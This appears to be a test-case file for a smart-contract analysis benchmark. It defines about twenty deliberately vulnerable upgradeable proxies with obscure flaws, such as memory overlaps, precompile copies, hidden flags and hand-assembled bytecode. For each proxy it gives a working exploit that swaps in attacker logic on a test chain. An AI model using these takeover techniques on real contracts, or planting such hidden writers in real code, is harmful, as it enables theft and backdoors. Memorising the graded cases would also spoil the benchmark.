/** Writes and guards that only an exact reading of memory, arithmetic and context finds. */
import { concatHex, type Hex, pad, toHex } from 'viem'
import { assemble, forwardTo } from '../assemble.ts'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, codeOf, LOGIC_SLOT, NO_OWNER, system } from '../chain.ts'

type Draft = Omit<Case, 'truth' | 'by'>

const timelocked =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock()))
const renounced =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, NO_OWNER))
const plain =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await chain.deploy(name), callData('setNumber(uint256)', [1])))
/** A proxy of this folder around logic of this folder. */
const around =
  (proxy: string, logic: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.deploy(proxy, await chain.deploy(logic)))
const settle =
  (signature: string, ...args: readonly unknown[]): Case['exploit'] =>
  ({ send, code }, { address }) =>
    send(address, signature, [...args, code])
const upgradeTo = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeTo(address)', [code])

/** Hand-written logic behind a proxy. */
const written =
  (sourceOf: (logic: Hex) => string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await chain.deployRuntime(assemble(sourceOf(await chain.deploy('Plain'))))))
const BRANCHES = 1_200

const drafts: readonly Draft[] = [
  {
    name: 'one byte of the slot in memory is replaced',
    cause: 'second writer',
    build: plain('PatchedByte'),
    exploit: settle('settle(uint256,address)', 0xbcn),
  },
  {
    name: 'two words in memory overlap and make the slot',
    cause: 'second writer',
    build: plain('OverlappingWords'),
    exploit: settle('settle(address)'),
  },
  {
    name: 'the slot is read between two words of memory',
    cause: 'second writer',
    build: plain('UnalignedRead'),
    exploit: settle('settle(address)'),
  },
  {
    name: 'the identity precompile copies calldata over the slot',
    cause: 'second writer',
    build: plain('IdentityCopy'),
    exploit: settle('settle(bytes32,address)', LOGIC_SLOT),
  },
  {
    name: 'the SHA-256 precompile makes the slot',
    cause: 'second writer',
    build: timelocked('Sha256Slot'),
    exploit: settle('settle(address)'),
  },
  {
    name: 'calldata is copied over the constant target of a delegatecall',
    cause: 'second writer',
    build: timelocked('OverwrittenTarget'),
    exploit: ({ send, code }, { address }) =>
      send(address, 'runHelper(uint256,bytes)', [code, callData('seize(address)', [code])]),
  },
  {
    name: 'calldata is copied over the owner before the comparison',
    cause: 'other guard',
    build: timelocked('OverwrittenOwner'),
    exploit: ({ sendRaw, code, account }, { address }) =>
      sendRaw(address, concatHex([callData('upgradeTo(address)', [code]), pad(account.address, { size: 32 })])),
  },
  {
    name: 'signed arithmetic at its limits makes the slot',
    cause: 'second writer',
    build: plain('ExactArithmetic'),
    exploit: settle('settle(int256,address)', -(1n << 255n)),
  },
  {
    name: 'the write happens only behind a proxy',
    cause: 'second writer',
    build: plain('OnlyBehindProxy'),
    exploit: settle('settle(address)'),
  },
  {
    name: 'the write happens only if other code runs than the contract has',
    cause: 'second writer',
    build: plain('OtherCodeSize'),
    exploit: settle('settle(address)'),
  },
  {
    name: 'a flag that is off today enables the write',
    cause: 'second writer',
    build: timelocked('SleepingWriter'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'enable()')
      await send(address, 'settle(address)', [code])
    },
  },
  {
    name: 'a flag behind the end of a list enables the write',
    cause: 'second writer',
    build: plain('HiddenFlag'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'put(uint256,uint256)', [4n, 77n])
      await send(address, 'settle(address)', [code])
    },
  },
  {
    name: 'the logic clears the pointer and the proxy lets anyone set an empty one',
    cause: 'second writer',
    build: around('ClearableProxy', 'ClearingLogic'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'clear()')
      await send(address, 'start(address)', [code])
    },
  },
  {
    name: 'the proxy requires only the unused bits of its pointer to be empty',
    cause: 'second writer',
    build: around('HalfEmptyProxy', 'Plain'),
    exploit: settle('start(address)'),
  },
  {
    name: 'the proxy requires a flag to be empty that the logic stores as a number',
    cause: 'second writer',
    build: around('ForgottenFlagProxy', 'Plain'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'setNumber(uint256)', [0n])
      await send(address, 'start(address)', [code])
    },
  },
  {
    name: 'a batch sets the number that opens the guard while it runs',
    cause: 'trial detector',
    build: timelocked('SelfDelegating'),
    exploit: ({ send, code }, { address }) => send(address, 'batch(bytes)', [callData('upgradeTo(address)', [code])]),
  },
  {
    name: 'a comparison with the sender on both sides',
    cause: 'other guard',
    build: renounced('BothSides'),
    exploit: async ({ deploy, send }, { address }) => {
      // Every second address of new logic has an even hash.
      for (let n = 0; n < 40; n += 1) {
        const next = await deploy('Taken')
        const done = await send(address, 'upgradeTo(address)', [next]).then(
          () => true,
          () => false,
        )
        if (done) return
      }
    },
  },
  {
    name: 'the sender is compared with the owner for a counter only',
    cause: 'other guard',
    build: timelocked('UselessComparison'),
    exploit: upgradeTo,
  },
  {
    name: 'the failure of the check is caught',
    cause: 'other guard',
    build: renounced('CaughtCheck'),
    exploit: upgradeTo,
  },
  {
    name: 'the owner is asked for objections and cannot answer',
    cause: 'other guard',
    build: timelocked('ObjectionGuard'),
    exploit: upgradeTo,
  },
  {
    name: 'the size of memory decides about the write',
    cause: 'second writer',
    settings: ['optimized'],
    build: written(
      (logic) => `0x00 CALLDATALOAD 0xf0 SHR MLOAD POP MSIZE 0x010000 LT @write JUMPI ${forwardTo(logic)}
        :write 0x20 CALLDATALOAD ${LOGIC_SLOT} SSTORE STOP`,
    ),
    exploit: ({ sendRaw, code }, { address }) => {
      // Only calldata that starts with 0xffff makes memory this large.
      return sendRaw(address, concatHex(['0xffff', toHex(0, { size: 30 }), pad(code, { size: 32 })]))
    },
  },
  {
    name: 'a write after more than a thousand branches in large code',
    cause: 'second writer',
    settings: ['optimized'],
    build: written((logic) => {
      const branches = Array.from(
        { length: BRANCHES },
        (_, n) =>
          `0x20 CALLDATALOAD 0x${(n % 256).toString(16).padStart(2, '0')} SHR 0x01 AND @b${n} JUMPI 0x01 ADD :b${n}`,
      )
      return `CALLDATASIZE 0x60 EQ @long JUMPI ${forwardTo(logic)}
        :long 0x00 ${branches.join('\n')} 0x03e9 EQ @write JUMPI STOP
        :write 0x40 CALLDATALOAD ${LOGIC_SLOT} SSTORE STOP`
    }),
    exploit: async (attack, { address }) => {
      const logic: Hex = `0x${(await attack.chain.storage(address, LOGIC_SLOT)).slice(-40)}`
      if ((await codeOf(attack.chain, logic)).length < 30_000) throw new Error('the code is not large')
      // A branch counts if its bit is zero; bits 0 to 175 are tested five times, the others four times.
      const bits = bitsForCount(0x3e9)
      const data = concatHex([toHex(0, { size: 32 }), toHex(bits, { size: 32 }), pad(attack.code, { size: 32 })])
      await attack.sendRaw(address, data)
    },
  },
]

/** The word for which exactly this many branches count. */
function bitsForCount(count: number): bigint {
  const timesOf = (bit: number): number => Math.ceil((BRANCHES - bit) / 256)
  for (let fives = 0; fives <= 176; fives += 1)
    for (let fours = 0; fours <= 80; fours += 1) {
      const skipped = fives * timesOf(0) + fours * timesOf(255)
      if (BRANCHES - skipped !== count) continue
      const [low, high] = [(1n << BigInt(fives)) - 1n, ((1n << BigInt(fours)) - 1n) << BigInt(256 - fours)]
      return low | high
    }
  throw new Error('no word fits')
}

export const obfuscated: readonly Case[] = drafts.map((draft) => ({ ...draft, by: 'anyone', truth: WEAK }))
